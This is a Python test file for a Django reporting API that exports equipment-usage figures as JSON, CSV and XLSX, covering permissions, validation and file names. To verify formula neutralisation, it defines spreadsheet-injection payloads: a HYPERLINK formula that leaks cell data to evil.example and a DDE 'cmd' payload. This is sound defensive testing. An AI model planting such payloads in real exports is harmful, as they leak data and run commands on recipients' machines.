"""`GET /api/v1/reports/usage/`: JSON, CSV (`,` and `;`) and XLSX give the same figures;
formula-like text is neutralised in CSV and XLSX; who may see what; bad input is a 400."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.utils import translation
from openpyxl import load_workbook

from partners.models import Project
from reports.labels import column_header

from .conftest import LYCEE, ORLEANS, SERVIER, TOTALS, as_json, at, reserve

pytestmark = pytest.mark.django_db
URL = "/api/v1/reports/usage/"
WINDOW = {"start": "2026-03-01", "end": "2026-11-01"}
FIGURES = [
    "reservations",
    "booked_hours",
    "used_hours",
    "billable_hours",
    "no_shows",
    "cancellations",
    "late_cancellations",
    "displaced",
    "users",
    "amount",
]
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'


def headers(names):
    """The export headers of these columns, in French (the site's default language)."""
    with translation.override("fr"):
        return [column_header(name) for name in names]


def get(client, **params):
    return client.get(URL, {**WINDOW, **params})


def read_csv(response, sep=","):
    # Reading the stream to its end closes the response (and its database work).
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=sep))


def number(text, sep=","):
    return float(text.replace(",", ".")) if sep == ";" else float(text)


def read_xlsx(response):
    data = b"".join(response.streaming_content)  # the end of the stream deletes the file
    book = load_workbook(io.BytesIO(data), read_only=True)
    try:
        return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    finally:
        book.close()  # read-only workbooks keep their archive open until closed


@pytest.fixture
def admin_client(scenario, client_for, frozen):
    return client_for(scenario.campus.admin)


def test_json_per_partner(admin_client, scenario):
    response = get(admin_client, group_by="partner")
    assert response.status_code == 200
    body = response.json()
    assert body["start"] == "2026-03-01T00:00:00+01:00"
    assert body["end"] == "2026-11-01T00:00:00+01:00"
    assert body["group_by"] == ["partner"]
    c = scenario.campus
    assert body["rows"] == [
        {"partner": {"id": c.lycee.pk, "name": "Lycée Jean Zay"}, **as_json(LYCEE)},
        {"partner": {"id": c.servier.pk, "name": "Servier"}, **as_json(SERVIER)},
        {"partner": {"id": c.orleans.pk, "name": "Université d'Orléans"}, **as_json(ORLEANS)},
    ]
    assert body["totals"] == as_json(TOTALS)


@pytest.mark.parametrize("sep", [",", ";"])
def test_csv_parses_back_to_the_json_figures(admin_client, sep):
    expected = get(admin_client, group_by="partner,month").json()
    response = get(admin_client, group_by="partner,month", format="csv", sep=sep)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    name = "usage_2026-03-01_2026-11-01_partner-month" + ("_semicolon" if sep == ";" else "")
    assert f'filename="{name}.csv"' in response["Content-Disposition"]
    rows = read_csv(response, sep)
    assert rows[0] == headers(["partner", "partner_id", "month", *FIGURES])
    assert len(rows) == 1 + len(expected["rows"]) + 1
    for cells, row in zip(rows[1:-1], expected["rows"], strict=True):
        assert cells[:3] == [row["partner"]["name"], str(row["partner"]["id"]), row["month"]]
        assert [number(v, sep) for v in cells[3:]] == [row[f] for f in FIGURES]
    assert rows[-1][0] == "Total"
    assert [number(v, sep) for v in rows[-1][3:]] == [expected["totals"][f] for f in FIGURES]
    if sep == ";":
        assert rows[-1][3:][1] == "18,00"  # booked hours with a decimal comma


def test_xlsx_parses_back_to_the_json_figures(admin_client):
    expected = get(admin_client, group_by="equipment,month").json()
    response = get(admin_client, group_by="equipment,month", format="xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows = read_xlsx(response)
    names = [*FIGURES, "open_hours", "utilisation"]
    assert rows[0] == headers(["equipment_code", "equipment", "equipment_id", "month", *names])
    for cells, row in zip(rows[1:-1], expected["rows"], strict=True):
        assert cells[:4] == [
            row["equipment"]["code"],
            row["equipment"]["name"],
            row["equipment"]["id"],
            row["month"],
        ]
        assert cells[4:] == [row[f] for f in names]
    assert rows[-1][0] == "Total"
    assert rows[-1][4:] == [expected["totals"][f] for f in names]


def test_formula_like_text_is_neutralised_in_csv_and_xlsx(admin_client, scenario):
    c = scenario.campus
    Project.objects.filter(pk=c.research.pk).update(name=INJECTION)
    Partner = type(c.orleans)
    Partner.objects.filter(pk=c.servier.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    as_text = get(admin_client, group_by="project").json()
    assert INJECTION in [row["project"]["name"] for row in as_text["rows"]]  # JSON as is
    rows = read_csv(get(admin_client, group_by="project", format="csv"))
    assert "'" + INJECTION in [r[0] for r in rows]
    assert INJECTION not in [r[0] for r in rows]
    cells = [r[0] for r in read_xlsx(get(admin_client, group_by="project", format="xlsx"))]
    assert "'" + INJECTION in cells
    partners = [r[0] for r in read_csv(get(admin_client, group_by="partner", format="csv"))]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in partners


def test_detail_export_in_every_format(admin_client, scenario):
    c = scenario.campus
    injected = reserve(
        equipment=c.rheometer,
        project=c.research,
        user=c.researcher,
        start=at("2026-09-01", "09:00"),
        end=at("2026-09-01", "10:00"),
        title=INJECTION,
    )
    awkward = reserve(
        equipment=c.rheometer,
        project=c.research,
        user=c.researcher,
        start=at("2026-09-02", "09:00"),
        end=at("2026-09-02", "10:00"),
        title='Tab\there; "quoted", and\nnew line',
    )
    as_json = get(admin_client, detail="reservations")
    assert as_json.status_code == 200
    body = json.loads(b"".join(as_json.streaming_content))
    rows = body["rows"]
    by_id = {row["id"]: row for row in rows}
    r = scenario.r
    # Every reservation of the window but the rejected one, with its own figures.
    assert set(by_id) == {x.pk for k, x in r.items() if k not in "LN"} | {
        injected.pk,
        awkward.pk,
    }
    assert by_id[r["A"].pk]["start"] == "2026-02-28T22:00:00+01:00"
    assert by_id[r["C"].pk]["end"] == "2026-10-25T04:00:00+01:00"
    assert by_id[r["C"].pk]["booked_hours"] == 4.0
    assert by_id[r["F"].pk]["status"] == "no_show"  # implied by the grace
    assert by_id[r["J"].pk]["status"] == "completed"  # ended
    assert by_id[r["G"].pk]["late_cancellation"] is True
    assert by_id[r["H"].pk]["late_cancellation"] is False
    assert (by_id[r["E"].pk]["used_hours"], by_id[r["E"].pk]["amount"]) == (1.75, 210.0)
    assert by_id[r["E"].pk]["partner"] == "Servier"
    assert by_id[injected.pk]["title"] == INJECTION
    # The detail adds up to the report (the scenario's hours are whole quarters): the
    # scenario's 416 € and 18 h plus the two new 1 h bookings at 10 €.
    assert get(admin_client, group_by="partner").json()["totals"]["amount"] == 436.0
    totals = get(admin_client, group_by="partner").json()["totals"]
    for figure in ("booked_hours", "used_hours", "billable_hours", "amount"):
        assert round(sum(row[figure] for row in rows), 2) == totals[figure]

    columns = list(rows[0])
    for sep in (",", ";"):
        response = get(admin_client, detail="reservations", format="csv", sep=sep)
        assert response.status_code == 200
        lines = read_csv(response, sep)
        assert lines[0] == headers(columns)
        parsed = {int(line[0]): dict(zip(columns, line, strict=True)) for line in lines[1:]}
        assert set(parsed) == set(by_id)
        for pk, row in by_id.items():
            cells = parsed[pk]
            for name in columns:
                value = row[name]
                if name == "title" and value.startswith("="):
                    assert cells[name] == "'" + value
                elif isinstance(value, bool):
                    assert cells[name] == ("1" if value else "0")
                elif isinstance(value, float):
                    assert number(cells[name], sep) == value
                else:
                    assert cells[name] == str(value), (name, cells[name], value)

    response = get(admin_client, detail="reservations", format="xlsx")
    assert 'filename="reservations_2026-03-01_2026-11-01.xlsx"' in response["Content-Disposition"]
    sheet = read_xlsx(response)
    assert sheet[0] == headers(columns)
    parsed = {line[0]: dict(zip(columns, line, strict=True)) for line in sheet[1:]}
    assert set(parsed) == set(by_id)
    for pk, row in by_id.items():
        for name in columns:
            value = row[name]
            if name == "title" and value.startswith("="):
                value = "'" + value
            elif isinstance(value, bool):
                value = int(value)
            assert parsed[pk][name] == value, (name, parsed[pk][name], value)


def test_who_sees_what(scenario, client_for, frozen):
    c = scenario.campus
    assert get(client_for(None), group_by="partner").status_code == 401
    refused = get(client_for(c.outsider), group_by="partner")
    assert refused.status_code == 403
    assert refused.json()["code"] == "permission_denied"
    assert get(client_for(c.teacher), group_by="partner").status_code == 403
    referent = get(client_for(c.referent), group_by="partner").json()
    assert [row["partner"]["name"] for row in referent["rows"]] == ["Université d'Orléans"]
    assert referent["totals"] == as_json(ORLEANS)
    # Another partner's filter finds nothing to the referent.
    other = get(client_for(c.referent), group_by="partner", partner=str(c.servier.pk)).json()
    assert other["rows"] == [] and other["totals"]["reservations"] == 0
    manager = get(client_for(c.eq_manager), group_by="equipment").json()
    assert [row["equipment"]["code"] for row in manager["rows"]] == ["WL-HPLC-01"]
    detail = get(client_for(c.eq_manager), detail="reservations", format="csv")
    codes = {line[5] for line in read_csv(detail)[1:]}
    assert codes == {"WL-HPLC-01"}
    everything = get(client_for(c.admin), group_by="equipment").json()
    assert len(everything["rows"]) == 2
    # Idle equipment is the reader's own: none for a referent, whose partner ran no class.
    classes = {"group_by": "equipment", "project_kind": "pedagogical"}
    assert get(client_for(c.referent), **classes).json()["rows"] == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"start": "", "group_by": "partner"}, "start"),
        ({"end": "2026-13-01", "group_by": "partner"}, "end"),
        ({"end": "2026-02-01", "group_by": "partner"}, "end"),
        ({"group_by": "colour"}, "group_by"),
        ({"group_by": "partner,month,site"}, "group_by"),
        ({"group_by": "partner,partner"}, "group_by"),
        ({}, "group_by"),
        ({"group_by": "partner", "format": "pdf"}, "format"),
        ({"group_by": "partner", "format": "csv", "sep": "|"}, "sep"),
        ({"group_by": "partner", "partner": "x"}, "partner"),
        ({"group_by": "partner", "project_kind": "leisure"}, "project_kind"),
        ({"group_by": "partner", "detail": "maybe"}, "detail"),
        ({"start": "2026-10-25T02:30", "group_by": "partner"}, "start"),
        ({"start": "2016-01-01", "end": "2027-01-01", "group_by": "partner"}, "end"),
        # Out of range: overflow near the ends of the calendar, ids beyond the database's.
        ({"start": "0001-01-01", "end": "0001-02-01", "group_by": "partner"}, "start"),
        ({"start": "0001-01-01T00:30:00+01:00", "group_by": "partner"}, "start"),
        (
            {
                "start": "9999-12-30T00:00:00+00:00",
                "end": "9999-12-31T23:00:00+00:00",
                "group_by": "equipment",
            },
            "start",
        ),
        ({"group_by": "partner", "partner": "99999999999999999999999"}, "partner"),
        ({"group_by": "partner", "equipment": str(2**63)}, "equipment"),
    ],
)
def test_bad_parameters_are_a_400(admin_client, params, field):
    response = get(admin_client, **params)
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "invalid"
    assert field in body["fields"]


def test_datetimes_with_and_without_offset(admin_client):
    local = get(
        admin_client,
        start="2026-10-25T00:00",
        end="2026-10-25T02:30+01:00",
        group_by="equipment",
        equipment="",
    )
    assert local.status_code == 200
    rows = {r["equipment"]["code"]: r for r in local.json()["rows"]}
    assert rows["TO-RHEO-01"]["booked_hours"] == 2.5  # C from 01:00 CEST to 02:30 CET


def test_query_counts(admin_client, django_assert_max_num_queries):
    # Token, scope, policies, the aggregate (with a savepoint and settings on PostgreSQL)
    # and one name lookup.
    with django_assert_max_num_queries(9):
        assert get(admin_client, group_by="partner").status_code == 200
    with django_assert_max_num_queries(11):
        response = get(admin_client, group_by="equipment,month", format="xlsx")
        assert response.status_code == 200
        b"".join(response.streaming_content)
    with django_assert_max_num_queries(12):
        response = get(admin_client, detail="reservations", format="csv")
        b"".join(response.streaming_content)


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("fr", ["Partenaire", "Heures réservées", "Montant (€)"]),
        ("en", ["Partner", "Booked hours", "Amount (€)"]),
    ],
)
def test_export_headers_in_the_language_of_the_request(admin_client, language, expected):
    csv_rows = read_csv(
        admin_client.get(
            URL, {**WINDOW, "group_by": "partner", "format": "csv"}, HTTP_ACCEPT_LANGUAGE=language
        )
    )
    xlsx_rows = read_xlsx(
        admin_client.get(
            URL, {**WINDOW, "group_by": "partner", "format": "xlsx"}, HTTP_ACCEPT_LANGUAGE=language
        )
    )
    detail = read_csv(
        admin_client.get(
            URL,
            {**WINDOW, "detail": "reservations", "format": "csv"},
            HTTP_ACCEPT_LANGUAGE=language,
        )
    )
    for header in (csv_rows[0], xlsx_rows[0]):
        assert [header[0], header[3], header[11]] == expected
        assert "booked_hours" not in header and "partner_id" not in header
    assert "booked_hours" not in detail[0] and expected[1] in detail[0]
    # JSON keeps its field names, whatever the language.
    body = admin_client.get(
        URL, {**WINDOW, "group_by": "partner"}, HTTP_ACCEPT_LANGUAGE=language
    ).json()
    assert "booked_hours" in body["totals"]


@pytest.mark.parametrize(
    ("params", "name"),
    [
        (
            {"group_by": "partner,month", "format": "csv"},
            "usage_2026-03-01_2026-11-01_partner-month.csv",
        ),
        (
            {"group_by": "partner,month", "format": "csv", "sep": ";"},
            "usage_2026-03-01_2026-11-01_partner-month_semicolon.csv",
        ),
        ({"group_by": "equipment", "format": "xlsx"}, "usage_2026-03-01_2026-11-01_equipment.xlsx"),
        ({"detail": "reservations", "format": "csv"}, "reservations_2026-03-01_2026-11-01.csv"),
        (
            {"detail": "reservations", "format": "csv", "sep": ";"},
            "reservations_2026-03-01_2026-11-01_semicolon.csv",
        ),
        ({"detail": "reservations", "format": "xlsx"}, "reservations_2026-03-01_2026-11-01.xlsx"),
        # A bound that is not midnight keeps its local time.
        (
            {"start": "2026-03-01T08:30", "group_by": "site", "format": "csv"},
            "usage_2026-03-01T0830_2026-11-01_site.csv",
        ),
    ],
)
def test_export_file_names_carry_the_window_and_grouping(admin_client, params, name):
    response = get(admin_client, **params)
    assert response.status_code == 200
    assert f'filename="{name}"' in response["Content-Disposition"]
    b"".join(response.streaming_content)  # close the stream (and delete the XLSX file)
